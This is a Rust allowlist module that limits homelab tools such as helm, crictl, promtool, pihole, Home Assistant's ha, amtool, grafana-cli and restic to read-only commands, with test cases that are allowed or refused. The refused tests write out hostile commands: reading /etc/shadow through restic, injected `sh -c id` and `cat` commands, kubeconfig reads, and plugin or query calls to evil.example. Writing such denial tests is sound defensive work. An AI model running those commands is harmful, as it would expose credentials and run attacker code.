//! The command-line tools of applications a homelab runs on its guests:
//! Kubernetes' helm 3 and crictl (cri-tools 1.30), Prometheus's promtool
//! (2.45 / 3), Pi-hole 5/6's `pihole`, and the Home Assistant CLI `ha`
//! (home-assistant/cli, cobra). Each keeps only its listing and status
//! forms, with the options that pick what to show and how; every option
//! that names another endpoint, credential or configuration file stays
//! out (helm's `--kubeconfig`, `--kube-apiserver`, `--kube-token`;
//! crictl's `--runtime-endpoint`, `--config`; `ha --endpoint`,
//! `--api-token`, and `--log-level`, whose `debug` prints the API token).

use super::*;

/// helm's global options (pflag: anywhere on the line) that only choose
/// the namespace and the kubeconfig's context, or add debug output.
const HELM_GLOBAL: Spec = Spec {
    flags: "h",
    valued: "n",
    long: &["debug", "help"],
    long_valued: &["namespace", "kube-context"],
    operands: Operands::None,
    ..Spec::GNU
};

/// `helm list|ls`: releases, filtered and formatted.
const HELM_LIST: Spec = Spec {
    flags: "aAdrqh",
    valued: "nfmlo",
    long: &[
        "all",
        "all-namespaces",
        "date",
        "reverse",
        "short",
        "deployed",
        "failed",
        "no-headers",
        "pending",
        "superseded",
        "uninstalled",
        "uninstalling",
        "debug",
        "help",
    ],
    long_valued: &[
        "namespace",
        "kube-context",
        "filter",
        "max",
        "offset",
        "selector",
        "output",
        "time-format",
    ],
    ..HELM_GLOBAL
};

/// `helm history NAME`: one release's revisions.
const HELM_RELEASE: Spec = Spec {
    valued: "no",
    long: &["debug", "help"],
    long_valued: &["namespace", "kube-context", "output", "max"],
    operands: Operands::AtMost(1),
    ..HELM_GLOBAL
};

/// `helm status NAME`: one release's state, as a table only (`-o json`
/// and `-o yaml` print the whole release: its values and every rendered
/// manifest, Secrets included, what `helm get values|manifest` would).
const HELM_STATUS: Spec = Spec {
    valued: "no",
    long: &["show-desc", "show-resources", "debug", "help"],
    long_valued: &["namespace", "kube-context", "output", "revision"],
    checked: &[("o", |v| v == "table"), ("output", |v| v == "table")],
    operands: Operands::AtMost(1),
    ..HELM_GLOBAL
};

/// `helm version`, `helm repo list`, `helm plugin list`.
const HELM_PLAIN: Spec = Spec {
    valued: "o",
    long: &["short", "debug", "help"],
    long_valued: &["output", "template"],
    ..HELM_GLOBAL
};

const HELM_LISTS: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "list|ls",
            spec: Some(&HELM_PLAIN),
        }],
        bare_ok: false,
    },
    ..HELM_GLOBAL
};

/// `helm get notes|metadata NAME`: the release's notes (which `helm
/// status` prints too) and its chart's name and version. Not `values`,
/// `manifest`, `hooks`, `all`: values and rendered Secrets.
const HELM_GET_LEAF: Spec = Spec {
    valued: "no",
    long: &["debug", "help"],
    long_valued: &["namespace", "kube-context", "revision", "output"],
    operands: Operands::AtMost(1),
    ..HELM_GLOBAL
};

verbs_then!(HELM_GET, "notes|metadata", HELM_GET_LEAF, false);

/// `helm dependency list CHART`: the chart's dependencies and whether
/// they are in its `charts/` folder.
const HELM_DEPENDENCY_LEAF: Spec = Spec {
    valued: "n",
    long: &["debug", "help"],
    long_valued: &["namespace", "kube-context", "max-col-width"],
    operands: Operands::AtMost(1),
    ..HELM_GLOBAL
};

verbs_then!(HELM_DEPENDENCY, "list|ls", HELM_DEPENDENCY_LEAF, false);

/// A chart given by its local folder or archive (`./charts/homepage`,
/// `/srv/charts/x-1.2.0.tgz`): never a repository's `REPO/CHART`, an
/// `oci://` or a URL helm would fetch, outside the lab.
fn local_chart(word: &str) -> bool {
    (word.starts_with("./") || word.starts_with("../") || word.starts_with('/') || word == ".")
        && !word.contains("://")
}

/// A values file on this machine, no secret by its name (`-f URL`
/// fetches one).
fn local_values(word: &str) -> bool {
    !word.contains("://") && super::read_file(word)
}

/// `helm show chart|readme|crds|values|all CHART` of a local chart: its
/// files as written.
const HELM_SHOW_LEAF: Spec = Spec {
    long: &["debug", "help"],
    operands: Operands::Names {
        at_most: 1,
        test: local_chart,
    },
    ..HELM_GLOBAL
};

verbs_then!(
    HELM_SHOW,
    "chart|readme|crds|values|all",
    HELM_SHOW_LEAF,
    false
);

/// `helm lint CHART…` and `helm template NAME CHART` of local charts:
/// the chart rendered with its values and those given (`-f` files on this
/// machine, no secret by name), printed, nothing installed (blind corpus
/// 166). Not `--validate` nor `--dry-run=server` (they ask the cluster),
/// `--output-dir` (writes), `--repo`, `--post-renderer` (runs a program).
const HELM_LINT: Spec = Spec {
    valued: "nf",
    long: &["strict", "quiet", "with-subcharts", "debug", "help"],
    long_valued: &["namespace", "values", "set", "set-string", "kube-version"],
    checked: &[("f", local_values), ("values", local_values)],
    operands: Operands::Names {
        at_most: 4,
        test: local_chart,
    },
    ..HELM_GLOBAL
};

const HELM_TEMPLATE: Spec = Spec {
    valued: "nfs",
    long: &["include-crds", "skip-crds", "skip-tests", "debug", "help"],
    long_valued: &[
        "namespace",
        "values",
        "set",
        "set-string",
        "show-only",
        "kube-version",
        "api-versions",
    ],
    checked: &[("f", local_values), ("values", local_values)],
    // (`[NAME] CHART`: the release's name may be left out.)
    operands: Operands::Names {
        at_most: 2,
        test: |w| !w.starts_with('-') && (local_chart(w) || !w.contains(['/', ':'])),
    },
    ..HELM_GLOBAL
};

/// `helm search repo KEYWORD`: the repositories' indexes already
/// downloaded (`search hub` asks Artifact Hub, outside the lab).
const HELM_SEARCH_LEAF: Spec = Spec {
    flags: "rl",
    valued: "no",
    long: &[
        "regexp",
        "versions",
        "devel",
        "fail-on-no-result",
        "debug",
        "help",
    ],
    long_valued: &[
        "namespace",
        "kube-context",
        "version",
        "output",
        "max-col-width",
    ],
    operands: Operands::AtMost(1),
    ..HELM_GLOBAL
};

verbs_then!(HELM_SEARCH, "repo", HELM_SEARCH_LEAF, false);

/// helm(1) 3.x. Not `get values|manifest|hooks|all` (values and Secrets),
/// `show`/`pull`/`search hub` (they reach a chart repository), `template`
/// and `lint` (they read a chart's folder whole), plugins (any other verb
/// may be one).
const HELM: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "get",
                spec: Some(&HELM_GET),
            },
            Verb {
                names: "dependency|dep|dependencies",
                spec: Some(&HELM_DEPENDENCY),
            },
            Verb {
                names: "search",
                spec: Some(&HELM_SEARCH),
            },
            Verb {
                names: "show|inspect",
                spec: Some(&HELM_SHOW),
            },
            Verb {
                names: "lint",
                spec: Some(&HELM_LINT),
            },
            Verb {
                names: "template",
                spec: Some(&HELM_TEMPLATE),
            },
            Verb {
                names: "list|ls",
                spec: Some(&HELM_LIST),
            },
            Verb {
                names: "history|hist",
                spec: Some(&HELM_RELEASE),
            },
            Verb {
                names: "status",
                spec: Some(&HELM_STATUS),
            },
            // (Not `env`: it prints `HELM_KUBETOKEN`.)
            Verb {
                names: "version",
                spec: Some(&HELM_PLAIN),
            },
            Verb {
                names: "repo|plugin",
                spec: Some(&HELM_LISTS),
            },
        ],
        bare_ok: false,
    },
    ..HELM_GLOBAL
};

/// crictl's global options (urfave/cli: before the command) that do not
/// point it at another runtime or configuration.
const CRICTL_GLOBAL: Spec = Spec {
    flags: "Dh",
    valued: "t",
    long: &["debug", "help"],
    long_valued: &["timeout"],
    operands: Operands::None,
    permute: false,
    ..Spec::GNU
};

/// `crictl ps|pods|images|stats|statsp|imagefsinfo|version`: listings.
const CRICTL_LIST: Spec = Spec {
    flags: "aqvlw",
    valued: "ospnf",
    long: &[
        "all", "quiet", "verbose", "latest", "no-trunc", "digests", "pinned", "watch", "help",
    ],
    long_valued: &[
        "output",
        "name",
        "label",
        "pod",
        "state",
        "image",
        "last",
        "namespace",
        "id",
        "filter",
        "seconds",
    ],
    ..CRICTL_GLOBAL
};

/// `crictl logs ID`: one container's log (as `docker logs`).
const CRICTL_LOGS: Spec = Spec {
    // (Its `-t` is `--timestamps`, not the global `--timeout`.)
    flags: "fpt",
    valued: "",
    long: &["follow", "previous", "timestamps", "help"],
    long_valued: &["tail", "since", "limit-bytes"],
    operands: Operands::AtMost(1),
    ..CRICTL_GLOBAL
};

/// crictl(1), cri-tools 1.30. Not `info` (the runtime's configuration,
/// with registry credentials), `inspect`/`inspectp` (containers'
/// environments), `exec`, `attach`, `rm*`, `stop*`, `pull`.
const CRICTL: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "ps|pods|images|image|img|stats|statsp|imagefsinfo|version",
                spec: Some(&CRICTL_LIST),
            },
            Verb {
                names: "logs",
                spec: Some(&CRICTL_LOGS),
            },
        ],
        bare_ok: false,
    },
    ..CRICTL_GLOBAL
};

/// `promtool check config|rules|web-config FILE…` (kingpin: `--name=value`
/// or `--name value`, `--no-NAME` for a flag). An argument starting with
/// `@` is a file of more arguments (kingpin reads it): the rules refuse it.
const PROMTOOL_CHECK_FILES: Spec = Spec {
    long: &[
        "syntax-only",
        "lint-fatal",
        "agent",
        "ignore-unknown-fields",
        "help",
    ],
    long_valued: &["lint"],
    operands: Operands::Read,
    permute: true,
    ..Spec::GNU
};

const PROMTOOL_CHECK: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "config|rules|web-config",
                spec: Some(&PROMTOOL_CHECK_FILES),
            },
            // Reads the exposition format on its input.
            Verb {
                names: "metrics",
                spec: Some(&PROMTOOL_METRICS),
            },
        ],
        bare_ok: false,
    },
    long: &["help"],
    ..Spec::GNU
};

const PROMTOOL_METRICS: Spec = Spec {
    long: &["extended", "help"],
    long_valued: &["lint"],
    operands: Operands::None,
    ..Spec::GNU
};

/// A query's words: a server's URL on a lab host, with its scheme, or a
/// word that can be no server (an expression with a blank, a brace, a
/// bracket, an operator or a quote). promtool fills in `http` for a
/// server written without one, so a bare word (`evil.example`,
/// `//host:9090`, even a label's name) may be a host (review 74).
fn loopback_url_or_word(word: &str) -> bool {
    lab_url(word)
        || word.chars().any(|c| {
            c.is_whitespace()
                || matches!(
                    c,
                    '(' | ')'
                        | '{'
                        | '}'
                        | '['
                        | ']'
                        | '='
                        | '<'
                        | '>'
                        | '!'
                        | '~'
                        | '"'
                        | '\''
                        | '*'
                        | ','
                )
        })
}

/// `promtool query instant|range|series|labels SERVER …`: a query sent to
/// a Prometheus on this host (not `--http.config.file`: credentials).
const PROMTOOL_QUERY_LEAF: Spec = Spec {
    valued: "o",
    long: &["help"],
    long_valued: &["format", "time", "start", "end", "step", "match", "header"],
    operands: Operands::Names {
        at_most: 3,
        test: loopback_url_or_word,
    },
    permute: true,
    ..Spec::GNU
};

verbs_then!(
    PROMTOOL_QUERY,
    "instant|range|series|labels",
    PROMTOOL_QUERY_LEAF,
    false
);

/// `promtool test rules FILE…`: the rules' unit tests, run in memory.
const PROMTOOL_TEST_LEAF: Spec = Spec {
    long: &["help", "debug", "diff"],
    long_valued: &["run"],
    operands: Operands::Read,
    permute: true,
    ..Spec::GNU
};

verbs_then!(PROMTOOL_TEST, "rules", PROMTOOL_TEST_LEAF, false);

/// promtool(1), Prometheus 2.45 to 3: the file checks, queries to a
/// Prometheus on this host, the rules' unit tests. Not `check
/// healthy|ready|service-discovery` (they reach a server or its targets),
/// `tsdb …` (`create-blocks-from` writes), `push`.
const PROMTOOL: Spec = Spec {
    long: &["help", "version", "experimental"],
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "check",
                spec: Some(&PROMTOOL_CHECK),
            },
            Verb {
                names: "query",
                spec: Some(&PROMTOOL_QUERY),
            },
            Verb {
                names: "test",
                spec: Some(&PROMTOOL_TEST),
            },
        ],
        bare_ok: false,
    },
    ..Spec::GNU
};

/// pihole(8), Pi-hole 5 and 6 (a shell script dispatching on its first
/// word): `status` (and `status web`); `-q DOMAIN` with `query.sh`'s own
/// options, a list shown, its log followed (the entries below). Not `-v`
/// (Pi-hole 5 asks GitHub for the latest release), and the rest change or
/// restart.
const PIHOLE: Spec = Spec {
    // `-q DOMAIN`: which of its lists hold the domain (a local search).
    valued: "q",
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "status",
            spec: Some(&PIHOLE_STATUS),
        }],
        bare_ok: true,
    },
    permute: false,
    ..Spec::GNU
};

/// `pihole -b -l`, `pihole --regex --list` and their kin (pihole 5's
/// `list.sh`): a list shown; any other word adds, removes or empties
/// (`--nuke`).
const PIHOLE_LIST: Spec = Spec {
    flags: "l",
    long: &["list"],
    required: &["l", "list"],
    operands: Operands::None,
    permute: false,
    ..Spec::GNU
};

/// `pihole -q DOMAIN [-exact|-all|-adlist]`: which lists hold a domain.
const PIHOLE_QUERY: Spec = Spec {
    long: &["exact", "all", "adlist", "bp"],
    single_dash_long: true,
    operands: Operands::AtMost(1),
    ..Spec::GNU
};

/// `pihole -t`: its log followed.
const PIHOLE_TAIL: Spec = Spec {
    operands: Operands::None,
    ..Spec::GNU
};

const PIHOLE_STATUS: Spec = Spec {
    operands: Operands::AtMost(1),
    permute: false,
    ..Spec::GNU
};

/// The Home Assistant CLI's harmless global options (persistent: on any
/// command).
const HA_LEAF: Spec = Spec {
    flags: "hf",
    valued: "nb",
    long: &["raw-json", "no-progress", "help", "follow"],
    long_valued: &["lines", "boot"],
    operands: Operands::None,
    ..Spec::GNU
};

/// `ha addons logs|stats|changelog [SLUG]` (not `info`: it prints the
/// add-on's saved options, logins and passwords of the database and MQTT
/// add-ons among them).
const HA_ADDON: Spec = Spec {
    operands: Operands::AtMost(1),
    ..HA_LEAF
};

const HA_GROUP: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "info|logs|log|lg|stats",
            spec: Some(&HA_LEAF),
        }],
        bare_ok: false,
    },
    ..HA_LEAF
};

const HA_ADDONS: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "logs|log|lg|stats|changelog",
            spec: Some(&HA_ADDON),
        }],
        bare_ok: true,
    },
    ..HA_LEAF
};

const HA_BACKUPS: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "list|ls|info",
            spec: Some(&HA_ADDON),
        }],
        bare_ok: true,
    },
    ..HA_LEAF
};

/// ha, home-assistant/cli 4.x: each part's `info`, `logs` and `stats`, the
/// add-ons and backups listed. Not `core check` (it runs a check in a new
/// container), `options`, `restart`, `update`, `repair`, `reset`.
const HA: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "info|available-updates",
                spec: Some(&HA_LEAF),
            },
            Verb {
                names: "core|supervisor|host|os|dns|audio|multicast|observer|cli|network|\
                        hardware|resolution|jobs|mounts|docker",
                spec: Some(&HA_GROUP),
            },
            Verb {
                names: "addons|apps",
                spec: Some(&HA_ADDONS),
            },
            Verb {
                names: "backups",
                spec: Some(&HA_BACKUPS),
            },
        ],
        bare_ok: false,
    },
    ..HA_LEAF
};

/// A service's URL on a lab host, plain HTTP(S).
pub(crate) fn lab_url(value: &str) -> bool {
    let lower = value.to_ascii_lowercase();
    (lower.starts_with("http://") || lower.starts_with("https://"))
        // (No `\\` or `@`: a URL parser reads `http://evil\\@lab/` as
        // evil's, the host check as lab's; review 112.)
        && !value
            .chars()
            .any(|c| c.is_whitespace() || c.is_control() || matches!(c, '\\' | '@'))
        && crate::Egress::loopback_only().allows(crate::hosts::host_of(value))
}

/// amtool's global options (kingpin: `--name=value` or `--name value`,
/// anywhere): the Alertmanager to ask, on a lab host, and the output's
/// form. Not `--http.config.file` (a proxy, credentials from a file).
const AMTOOL_GLOBAL: Spec = Spec {
    flags: "vh",
    valued: "o",
    long: &["verbose", "help", "version-check", "no-version-check"],
    long_valued: &["alertmanager.url", "output", "timeout"],
    checked: &[("alertmanager.url", lab_url)],
    operands: Operands::None,
    ..Spec::GNU
};

/// `amtool alert [query] [MATCHER…]`: the alerts, filtered.
const AMTOOL_ALERT_QUERY: Spec = Spec {
    flags: "vhaisu",
    valued: "or",
    long: &[
        "verbose",
        "help",
        "version-check",
        "no-version-check",
        "active",
        "inhibited",
        "silenced",
        "unprocessed",
    ],
    long_valued: &["alertmanager.url", "output", "timeout", "receiver"],
    operands: Operands::Read,
    ..AMTOOL_GLOBAL
};

/// `amtool silence [query] [MATCHER…]`: the silences, filtered.
const AMTOOL_SILENCE_QUERY: Spec = Spec {
    flags: "vheq",
    valued: "o",
    long: &[
        "verbose",
        "help",
        "version-check",
        "no-version-check",
        "expired",
        "quiet",
    ],
    long_valued: &["alertmanager.url", "output", "timeout", "within"],
    operands: Operands::Read,
    ..AMTOOL_GLOBAL
};

const AMTOOL_ALERT: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "query",
            spec: Some(&AMTOOL_ALERT_QUERY),
        }],
        bare_ok: true,
    },
    ..AMTOOL_ALERT_QUERY
};

const AMTOOL_SILENCE: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "query",
            spec: Some(&AMTOOL_SILENCE_QUERY),
        }],
        bare_ok: true,
    },
    ..AMTOOL_SILENCE_QUERY
};

/// `amtool check-config FILE…`: a local file's syntax.
const AMTOOL_CHECK: Spec = Spec {
    operands: Operands::Read,
    ..AMTOOL_GLOBAL
};

/// `amtool config routes [show|test]`: the routing tree of a local file
/// (`--config.file`) or of the server on this host, and which receivers
/// labels reach.
const AMTOOL_ROUTES_LEAF: Spec = Spec {
    long: &[
        "verbose",
        "help",
        "version-check",
        "no-version-check",
        "tree",
        "debug",
    ],
    long_valued: &[
        "alertmanager.url",
        "output",
        "timeout",
        "config.file",
        "verify.receivers",
    ],
    operands: Operands::Read,
    ..AMTOOL_GLOBAL
};

const AMTOOL_ROUTES: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "show|test",
            spec: Some(&AMTOOL_ROUTES_LEAF),
        }],
        bare_ok: true,
    },
    ..AMTOOL_ROUTES_LEAF
};

const AMTOOL_CONFIG: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "routes",
            spec: Some(&AMTOOL_ROUTES),
        }],
        bare_ok: false,
    },
    ..AMTOOL_GLOBAL
};

verbs_then!(AMTOOL_CLUSTER, "show", AMTOOL_GLOBAL, false);

/// amtool(1), Alertmanager 0.26: alerts and silences queried, a config
/// file checked, routes shown and tested, the cluster's peers. Not
/// `silence add|expire|import`, `alert add`, `config show` (the server's
/// whole configuration), `template`.
/// (An argument starting with `@` is kingpin's file of arguments: the
/// rules refuse it.)
const AMTOOL: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "alert|alerts",
                spec: Some(&AMTOOL_ALERT),
            },
            Verb {
                names: "silence|silences",
                spec: Some(&AMTOOL_SILENCE),
            },
            Verb {
                names: "check-config",
                spec: Some(&AMTOOL_CHECK),
            },
            Verb {
                names: "config",
                spec: Some(&AMTOOL_CONFIG),
            },
            Verb {
                names: "cluster",
                spec: Some(&AMTOOL_CLUSTER),
            },
        ],
        bare_ok: false,
    },
    ..AMTOOL_GLOBAL
};

/// grafana-cli (Grafana 10/11, urfave/cli): `plugins ls` lists the
/// installed plugins. Not `plugins install|update|remove`, `list-remote`
/// (asks grafana.com), `admin …` (resets passwords, migrates data).
const GRAFANA_CLI: Spec = Spec {
    long: &["debug", "help"],
    // (Grafana's own install, where it finds its defaults; blind corpus
    // 161.)
    long_valued: &["homepath"],
    checked: &[("homepath", |v| {
        matches!(v, "/usr/share/grafana" | "/usr/share/grafana/")
    })],
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "plugins",
            spec: Some(&GRAFANA_PLUGINS),
        }],
        bare_ok: false,
    },
    permute: false,
    ..Spec::GNU
};
const GRAFANA_PLUGINS: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "ls",
            spec: Some(&GRAFANA_NOTHING),
        }],
        bare_ok: false,
    },
    long: &["debug", "help"],
    permute: false,
    ..Spec::GNU
};
const GRAFANA_NOTHING: Spec = Spec {
    long: &["help"],
    operands: Operands::None,
    ..Spec::GNU
};

/// A restic repository: a local path, `sftp:[user@]host:/path` (or
/// `sftp://[user@]host[:port]//path`), `rest:http(s)://host…`, whose host
/// the egress rules judge (the inventory's names pass there); not the
/// clouds' backends.
fn restic_repository(value: &str) -> bool {
    let lab = |host: &str| {
        !host.is_empty()
            && host
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'))
    };
    if value.starts_with('/') {
        return true;
    }
    if let Some(url) = value.strip_prefix("rest:") {
        let lower = url.to_ascii_lowercase();
        return (lower.starts_with("http://") || lower.starts_with("https://"))
            && lab(crate::hosts::host_of(url));
    }
    let Some(rest) = value.strip_prefix("sftp:") else {
        return false;
    };
    let host = match rest.strip_prefix("//") {
        Some(url) => crate::hosts::host_of(url.split("//").next().unwrap_or(url)),
        None => {
            let before = rest.split(':').next().unwrap_or("");
            before.rsplit_once('@').map_or(before, |(_, h)| h)
        }
    };
    lab(host) && !value.contains(char::is_whitespace)
}

/// restic's global options that neither run a program (`--password-
/// command`, `-o sftp.command=…`) nor write elsewhere (`--cache-dir`):
/// the repository (in the lab), its password file, the output's form,
/// `--no-lock` and `--no-cache`.
const RESTIC_GLOBAL: Spec = Spec {
    flags: "qv",
    valued: "rp",
    long: &["json", "no-cache", "no-lock", "quiet", "verbose", "help"],
    long_valued: &["repo", "password-file", "limit-download"],
    checked: &[("r", restic_repository), ("repo", restic_repository)],
    operands: Operands::None,
    ..Spec::GNU
};

/// `restic snapshots|ls|stats|find|diff|forget`: listings and sizes, and
/// `forget` proven for its dry run only (the rules: without `-n` it
/// drops snapshots). Not `cat` (the master key), `dump`/`restore` (files'
/// contents), `check` (it locks the repository however asked), `mount`.
const RESTIC_LIST: Spec = Spec {
    flags: "qvclin",
    valued: "rpHgsNO",
    long: &[
        "json",
        "no-cache",
        "no-lock",
        "quiet",
        "verbose",
        "help",
        "compact",
        "latest",
        "long",
        "recursive",
        "human-readable",
        "ignore-case",
        "newest",
        "oldest",
        "pack",
        "tree",
        "blob",
        "show-pack-id",
        "metadata",
        "dry-run",
    ],
    long_valued: &[
        "repo",
        "password-file",
        "limit-download",
        "group-by",
        "host",
        "path",
        "tag",
        "mode",
        "snapshot",
        "keep-last",
        "keep-hourly",
        "keep-daily",
        "keep-weekly",
        "keep-monthly",
        "keep-yearly",
        "keep-within",
        "keep-tag",
    ],
    operands: Operands::Read,
    ..RESTIC_GLOBAL
};

/// restic(1), restic 0.16/0.17: what a repository holds, asked without a
/// lock (the rules require `--no-lock`: a lock is a file written into the
/// repository).
const RESTIC: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "snapshots|ls|stats|find|diff|forget",
                spec: Some(&RESTIC_LIST),
            },
            Verb {
                names: "version",
                spec: Some(&RESTIC_GLOBAL),
            },
            // (The local cache's folders listed, no repository opened;
            // not `--cleanup`.)
            Verb {
                names: "cache",
                spec: Some(&RESTIC_CACHE),
            },
        ],
        bare_ok: false,
    },
    ..RESTIC_GLOBAL
};

const RESTIC_CACHE: Spec = Spec {
    long: &["no-size", "help"],
    long_valued: &["max-age"],
    operands: Operands::None,
    ..RESTIC_GLOBAL
};

#[rustfmt::skip]
pub(super) const ENTRIES: &[Entry] = &[
    Entry {
        names: &["restic"],
        spec: &RESTIC,
        read_only: &["restic -r sftp:backup@192.168.1.20:/srv/restic/pve1 snapshots --no-lock --no-cache --latest 3", "restic -r /mnt/usb/restic --no-lock --no-cache forget --keep-daily 7 --dry-run", "restic --repo rest:http://nas.lan:8000/pve1 --no-lock --no-cache --json stats", "restic version", "restic cache", "restic cache --no-size"],
        not: &["restic cache --cleanup", "restic -r s3:s3.amazonaws.com/bucket snapshots --no-lock", "restic -r /srv/restic snapshots", "restic -r /srv/restic --no-lock cat masterkey", "restic -r /srv/restic --password-command 'cat /tmp/x' --no-lock snapshots", "restic -r sftp:evil.example:/x --no-lock snapshots", "restic -r /srv/restic -o sftp.command='sh -c id' --no-lock snapshots", "restic -r /srv/restic --no-lock forget --keep-last 1", "restic -r /srv/restic --no-lock dump latest /etc/shadow", "restic snapshots --no-lock --no-cache", "restic -r /srv/restic snapshots --no-lock"],
    },
    Entry {
        names: &["amtool"],
        spec: &AMTOOL,
        read_only: &["amtool alert query --alertmanager.url=http://192.168.1.60:9093 severity=critical", "amtool silence query -o json", "amtool alert", "amtool check-config /srv/alertmanager/test.yml", "amtool --alertmanager.url http://alertmanager.lan:9093 silence query --expired", "amtool config routes show --config.file=/srv/am/routes-test.yml", "amtool config routes test --config.file=/srv/am/routes-test.yml --verify.receivers=pushover severity=critical", "amtool cluster show --alertmanager.url=http://localhost:9093"],
        not: &["amtool silence add alertname=x", "amtool silence expire abc", "amtool alert query --alertmanager.url=http://evil.example:9093", "amtool --http.config.file=/tmp/h.yml alert query", "amtool config show", "amtool alert add alertname=x", "amtool cluster show --alertmanager.url=http://evil.example:9093"],
    },
    Entry {
        names: &["grafana-cli"],
        spec: &GRAFANA_CLI,
        read_only: &["grafana-cli plugins ls", "grafana-cli --homepath /usr/share/grafana plugins ls"],
        not: &["grafana-cli plugins install grafana-piechart-panel", "grafana-cli admin reset-admin-password x", "grafana-cli plugins list-remote", "grafana-cli --homepath /tmp/g plugins ls", "grafana-cli --pluginUrl http://evil.example/x.zip plugins install x"],
    },
    Entry {
        names: &["helm"],
        spec: &HELM,
        read_only: &["helm list -A", "helm ls -n kube-system -o json", "helm status traefik -n kube-system", "helm history grafana --max 5", "helm version --short", "helm repo list", "helm -n monitoring list --failed", "helm get notes -n monitoring grafana", "helm get metadata -n cert-manager cert-manager", "helm dependency list ./charts/homepage", "helm search repo jetstack/cert-manager --versions", "helm search repo bitnami/postgresql -l -o json", "helm show chart ./charts/homepage", "helm show values /srv/charts/x-1.2.0.tgz", "helm lint ./charts/homepage --strict", "helm template homepage ./charts/homepage -n web -f ./values-lab.yaml"],
        not: &["helm uninstall traefik -n kube-system", "helm get values grafana", "helm --kubeconfig /tmp/k list", "helm show values bitnami/redis", "helm show chart oci://evil.example/x", "helm template x bitnami/nginx", "helm template x ./c -f https://evil.example/v.yaml", "helm template x ./c --output-dir /etc", "helm lint ./c -f /root/.kube/config", "helm upgrade grafana grafana/grafana", "helm repo update", "helm diff upgrade x y", "helm list --kube-apiserver https://evil.example", "helm status grafana -o json", "helm -n monitoring status loki --output yaml", "helm env", "helm get manifest grafana", "helm get all grafana", "helm get hooks grafana", "helm search hub nginx", "helm dependency update ./charts/x", "helm dep build ./charts/x"],
    },
    Entry {
        names: &["crictl", "k3s crictl"],
        spec: &CRICTL,
        read_only: &["crictl ps -a", "crictl pods --namespace kube-system", "crictl images -q", "crictl stats --all", "crictl logs --tail 50 3f2a", "crictl version"],
        not: &["crictl info", "crictl inspect 3f2a", "crictl exec -it 3f2a sh", "crictl rm 3f2a", "crictl -r tcp://10.0.0.9:1234 ps", "crictl --config /tmp/c.yaml ps", "crictl rmi --prune"],
    },
    Entry {
        names: &["promtool"],
        spec: &PROMTOOL,
        read_only: &["promtool check config /etc/prometheus/prometheus.yml", "promtool check rules /etc/prometheus/rules/*.yml", "promtool check config --syntax-only prometheus.yml", "promtool query instant http://localhost:9090 'up == 0'", "promtool query series --match='node_uname_info' http://localhost:9090", "promtool query labels http://127.0.0.1:9090 'instance{job=\"node\"}'", "promtool test rules /etc/prometheus/tests/node_test.yml"],
        not: &["promtool check healthy --url http://evil.example:9090", "promtool query instant http://evil.example up", "promtool tsdb create-blocks-from openmetrics x /var/lib/prometheus", "promtool check config @/tmp/args", "promtool check service-discovery prometheus.yml node", "promtool query instant --http.config.file=/tmp/h.yml http://localhost:9090 up", "promtool query instant http://pve9.example:9090 up", "promtool query instant //evil.example:9090 'up == 0'", "promtool query instant evil.example 'up == 0'", "promtool query labels http://localhost:9090 evil.example", "promtool push metrics http://localhost:9091"],
    },
    Entry {
        names: &["pihole"],
        spec: &PIHOLE,
        read_only: &["pihole status", "pihole -q doubleclick.net"],
        not: &["pihole -g", "pihole disable 5m", "pihole uninstall", "pihole -f", "pihole -v"],
    },
    Entry {
        names: &[
            "pihole -b", "pihole -w", "pihole --regex", "pihole --wild", "pihole --white-regex",
            "pihole --white-wild", "pihole blacklist", "pihole whitelist", "pihole regex", "pihole wildcard",
        ],
        spec: &PIHOLE_LIST,
        read_only: &["pihole -b -l", "pihole -w -l", "pihole --regex --list"],
        not: &["pihole -b --nuke", "pihole -b ads.example", "pihole -w -d good.example", "pihole -b", "pihole -b ads.example -l"],
    },
    Entry {
        names: &["pihole -q", "pihole query"],
        spec: &PIHOLE_QUERY,
        read_only: &["pihole -q -exact doubleclick.net", "pihole -q doubleclick.net -all"],
        not: &["pihole -q a.example b.example", "pihole -q --bogus x"],
    },
    Entry {
        names: &["pihole -t", "pihole tail"],
        spec: &PIHOLE_TAIL,
        read_only: &["pihole -t", "pihole tail"],
        not: &["pihole -t x y"],
    },
    Entry {
        names: &["ha"],
        spec: &HA,
        read_only: &["ha core info", "ha supervisor logs", "ha host info --raw-json", "ha addons", "ha addons logs core_ssh", "ha backups list", "ha info", "ha core stats --no-progress"],
        not: &["ha core restart", "ha core stop", "ha backups remove abc", "ha --log-level debug core info", "ha --endpoint evil.example core info", "ha core check", "ha host reboot", "ha addons uninstall core_ssh", "ha addons info core_mariadb", "ha apps info core_mosquitto --raw-json"],
    },
];
